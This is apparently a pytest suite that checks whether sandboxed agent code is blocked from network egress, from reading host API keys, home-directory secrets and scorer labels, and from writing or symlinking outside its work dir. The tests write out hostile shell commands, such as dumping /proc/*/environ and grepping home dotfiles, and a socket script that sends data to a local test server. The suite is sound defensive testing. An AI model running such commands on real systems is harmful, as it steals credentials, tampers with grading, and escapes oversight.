"""Hostile code trying to get out: network, host secrets, writes outside, path escapes.

Every test runs against both confined backends and ends by checking that the
attacked sandbox and a bystander sandbox still work. The only network targets are a
server this test starts on the host's 127.0.0.1 and one it starts in a network
namespace of its own, on a TEST-NET-1 (192.0.2.0/24) address; nothing else is ever
contacted.
"""

from __future__ import annotations

import asyncio
import ipaddress
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from sandboxes import PathEscapeError, SandboxError
from sandboxes.protocol import Sandbox
from tests.sandboxes.backends import assert_still_works

CONNECT = """
import socket, sys
port = int(sys.argv[1])
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try:
        with socket.create_connection((host, port), timeout=2) as s:
            s.sendall(b"stolen")
            print("CONNECTED", host)
    except OSError as exc:
        print("blocked", host, type(exc).__name__, exc)
lines = open("/proc/net/dev").read().splitlines()[2:]
print("IFACES", ",".join(line.split(":")[0].strip() for line in lines))
"""


@pytest.fixture
async def host_server() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A TCP server on the host's 127.0.0.1 that records whatever reaches it."""
    received: list[bytes] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(100) or b"<connected>")
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server:
        yield port, received


async def test_hostile_network_egress_to_host_loopback_is_blocked(
    confined: Sandbox, bystander: Sandbox, host_server: tuple[int, list[bytes]]
) -> None:
    port, received = host_server
    await confined.write_file("connect.py", CONNECT)
    result = await confined.exec(["python", "connect.py", str(port)], timeout_s=20)
    await asyncio.sleep(0.2)  # a connection that did get through would be recorded by now
    assert received == []
    assert "CONNECTED" not in result.stdout
    assert "blocked 127.0.0.1" in result.stdout
    assert "IFACES lo\n" in result.stdout, "only a loopback of its own: no route anywhere"
    await assert_still_works(confined, bystander)


TEST_NET_1 = ipaddress.IPv4Network("192.0.2.0/24")
"""Documentation range (RFC 5737): never routed anywhere; the test host lives here."""

TEST_HOST_SERVER = """
import socket, sys, time
host, port, log = sys.argv[1], int(sys.argv[2]), sys.argv[3]
deadline = time.monotonic() + 60  # bounded: gone within a minute whatever happens
with socket.create_server((host, port)) as srv:
    open(log + ".ready", "w").close()
    while (left := deadline - time.monotonic()) > 0:
        srv.settimeout(left)
        try:
            conn, peer = srv.accept()
        except OSError:
            break
        with open(log, "a") as f:
            f.write(f"{peer[0]}\\n")
        conn.close()
"""

CONNECT_TEST_HOST = """
import socket, sys
host, port = sys.argv[1], int(sys.argv[2])
try:
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(b"stolen")
        print("reached", host)
except OSError as exc:
    print("blocked", host, type(exc).__name__, exc)
"""


def _ip(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["ip", *args], capture_output=True, text=True, timeout=10, check=False)


def _free_test_net_block() -> ipaddress.IPv4Network:
    """A /30 of TEST-NET-1 that no address, route or neighbour on this host mentions.

    Some machines (these VMs among them) number their own network from TEST-NET-1,
    so a fixed pair could shadow the real gateway or the host's own address.
    """
    seen = " ".join(_ip(*cmd).stdout for cmd in (["addr"], ["route", "show", "table", "all"], ["neigh"]))
    used = {ipaddress.IPv4Address(a) for a in re.findall(r"192\.0\.2\.\d+", seen)}
    used |= {TEST_NET_1.network_address, TEST_NET_1.broadcast_address}
    for block in reversed(list(TEST_NET_1.subnets(new_prefix=30))):
        if not any(a in block for a in used):
            return block
    pytest.skip("no free /30 left in TEST-NET-1 on this host")


@pytest.fixture
def test_host(tmp_path: Path) -> Iterator[tuple[str, int, Path]]:
    """A TCP server in a network namespace this test makes, reachable from the host.

    Yields (address, port, log): the log gets one line per accepted connection.
    A veth pair joins the namespace to the host; everything is torn down afterwards.
    """
    if os.geteuid() != 0:
        pytest.skip("a test host in its own network namespace needs root")
    if shutil.which("ip") is None:
        pytest.skip("no `ip` (iproute2) to make a network namespace")
    suffix = uuid.uuid4().hex[:8]
    netns, host_end, ns_end = f"aar-test-{suffix}", f"aarh{suffix}", f"aarn{suffix}"
    made = _ip("netns", "add", netns)
    if made.returncode != 0:
        pytest.skip(f"cannot make a network namespace (`ip netns add`): {made.stderr.strip()}")
    server: subprocess.Popen[bytes] | None = None
    try:
        block = _free_test_net_block()
        host_ip, ns_ip = (str(a) for a in list(block.hosts())[:2])
        for cmd in (
            ["link", "add", host_end, "type", "veth", "peer", "name", ns_end],
            ["link", "set", ns_end, "netns", netns],
            ["addr", "add", f"{host_ip}/30", "dev", host_end],
            ["link", "set", host_end, "up"],
            ["-n", netns, "addr", "add", f"{ns_ip}/30", "dev", ns_end],
            ["-n", netns, "link", "set", ns_end, "up"],
            ["-n", netns, "link", "set", "lo", "up"],
        ):
            done = _ip(*cmd)
            assert done.returncode == 0, f"ip {' '.join(cmd)}: {done.stderr.strip()}"
        port, log = 8765, tmp_path / "test-host.log"  # a fresh namespace: any port is free
        server = subprocess.Popen(
            ["ip", "netns", "exec", netns, sys.executable, "-c", TEST_HOST_SERVER, ns_ip, str(port), str(log)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        ready, deadline = Path(f"{log}.ready"), time.monotonic() + 10
        while not ready.exists():
            assert server.poll() is None, "the test host server died while starting"
            assert time.monotonic() < deadline, "the test host server did not start in 10 s"
            time.sleep(0.05)
        yield ns_ip, port, log
    finally:
        if server is not None:
            server.kill()
            server.wait(timeout=5)
        _ip("netns", "del", netns)  # takes the namespace end of the veth with it
        _ip("link", "del", host_end)  # in case it was never moved; harmless otherwise


async def test_hostile_network_egress_to_a_test_host_is_blocked(
    confined: Sandbox, bystander: Sandbox, test_host: tuple[str, int, Path]
) -> None:
    address, port, log = test_host
    # The host does reach it, so a "blocked" below means the sandbox, not a dead target.
    with socket.create_connection((address, port), timeout=3):
        pass
    deadline = time.monotonic() + 3
    while not log.exists() and time.monotonic() < deadline:
        await asyncio.sleep(0.02)
    assert log.exists() and len(log.read_text().splitlines()) == 1, "the test host logs what reaches it"
    await confined.write_file("connect_test_host.py", CONNECT_TEST_HOST)
    result = await confined.exec(["python", "connect_test_host.py", address, str(port)], timeout_s=20)
    await asyncio.sleep(0.2)  # a connection that did get through would be logged by now
    assert "reached" not in result.stdout
    assert f"blocked {address}" in result.stdout, result
    assert len(log.read_text().splitlines()) == 1, "only the host's own probe ever arrived"
    await assert_still_works(confined, bystander)


async def test_hostile_host_api_key_never_enters(
    confined: Sandbox, bystander: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = f"sk-ant-hostile-{uuid.uuid4().hex}"
    monkeypatch.setenv("ANTHROPIC_API_KEY", secret)
    # A host process started with the key, as the campaign runner is: /proc shows its
    # environment to anyone who can see the process.
    holder = subprocess.Popen(["sleep", "60"], env={**os.environ, "ANTHROPIC_API_KEY": secret})
    try:
        script = "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'"
        result = await confined.exec(["sh", "-c", script], timeout_s=20)
    finally:
        holder.kill()
        holder.wait()
    assert secret not in result.stdout + result.stderr
    assert "ANTHROPIC_API_KEY" not in result.stdout
    with pytest.raises(SandboxError, match="secrets never enter"):
        await confined.exec(["env"], env={"INNOCENT": secret})
    await assert_still_works(confined, bystander)


@pytest.fixture
def home_secret() -> Iterator[Path]:
    """A secret file in the host user's home dir, removed afterwards."""
    path = Path.home() / f".aar-hostile-{uuid.uuid4().hex}"
    path.write_text(f"HOME-SECRET-{uuid.uuid4().hex}\n")
    path.chmod(0o644)  # readable by anyone who can reach it: only isolation keeps it out
    yield path
    path.unlink(missing_ok=True)


async def test_hostile_reading_a_file_in_the_host_home_fails(
    confined: Sandbox, bystander: Sandbox, home_secret: Path
) -> None:
    secret = home_secret.read_text().strip()
    script = (
        f"cat {home_secret}; cat ~/{home_secret.name}; ls -la {home_secret.parent}; "
        f"find / -xdev -maxdepth 4 -name '{home_secret.name}' 2>/dev/null; "
        f"grep -s {secret} /root/.* /home/*/.* /tmp/.* 2>/dev/null"
    )
    result = await confined.exec(["sh", "-c", script], timeout_s=30)
    assert secret not in result.stdout + result.stderr
    assert home_secret.name not in result.stdout
    await assert_still_works(confined, bystander)


async def test_hostile_reading_the_scorer_labels_fails(
    confined: Sandbox, bystander: Sandbox, tmp_path: Path
) -> None:
    labels = tmp_path / "scorer" / "labels.json"  # beside the agents' work dirs, like a campaign's
    labels.parent.mkdir()
    marker = f"LABELS-{uuid.uuid4().hex}"
    labels.write_text(f'{{"t00000": 1, "marker": "{marker}"}}')
    labels.chmod(0o644)
    script = (
        f"cat {labels}; cat ../scorer/labels.json; cat ../../scorer/labels.json; "
        "find / -xdev -name labels.json 2>/dev/null; ls -la .. ../.. 2>&1"
    )
    result = await confined.exec(["sh", "-c", script], timeout_s=30)
    assert marker not in result.stdout + result.stderr
    assert "labels.json" not in result.stdout
    with pytest.raises(PathEscapeError):
        await confined.read_file("../scorer/labels.json")
    with pytest.raises(PathEscapeError):
        await confined.read_file(str(labels))
    await assert_still_works(confined, bystander)


async def test_hostile_writes_outside_the_work_dir_fail(
    confined: Sandbox, bystander: Sandbox, tmp_path: Path
) -> None:
    outside = tmp_path / f"outside-{uuid.uuid4().hex}"
    targets = [str(outside), "../escaped.txt", "/usr/escaped", "/etc/escaped", "/escaped", "/root/escaped"]
    script = "; ".join(f"echo x > {t} && echo WROTE {t}" for t in targets) + "; echo inside > mine.txt"
    result = await confined.exec(["sh", "-c", script], timeout_s=20)
    assert "WROTE" not in result.stdout
    assert not outside.exists()
    assert not (confined.workdir.parent / "escaped.txt").exists()
    for host_path in ("/usr/escaped", "/etc/escaped", "/escaped", "/root/escaped"):
        assert not Path(host_path).exists(), f"{host_path} appeared on the host"
    assert (confined.workdir / "mine.txt").read_text() == "inside\n"
    with pytest.raises(PathEscapeError):
        await confined.write_file("../escaped.txt", "x")
    await assert_still_works(confined, bystander)


async def test_hostile_symlink_and_dotdot_escapes_are_refused(
    confined: Sandbox, bystander: Sandbox, home_secret: Path, tmp_path: Path
) -> None:
    secret = home_secret.read_text().strip()
    host_file = tmp_path / "host-only.txt"
    host_file.write_text("HOST-ONLY\n")
    script = (
        f"ln -s {home_secret} home_link; ln -s {host_file} host_link; ln -s / root_link; "
        "ln -s ../../../../../../.. up; cat home_link host_link 2>&1; ls root_link/ up/ 2>&1; "
        f"cat up{home_secret} up{host_file} 2>&1"
    )
    result = await confined.exec(["sh", "-c", script], timeout_s=20)
    assert secret not in result.stdout and "HOST-ONLY" not in result.stdout
    for name in ("home_link", "host_link", f"up{home_secret}", f"root_link{host_file}"):
        with pytest.raises(PathEscapeError):  # the host never follows a link out of the work dir
            await confined.read_file(name)
    with pytest.raises(PathEscapeError):
        await confined.write_file("host_link", "overwritten")
    assert host_file.read_text() == "HOST-ONLY\n"
    with pytest.raises(PathEscapeError):
        await confined.exec(["true"], cwd="root_link")
    await assert_still_works(confined, bystander)
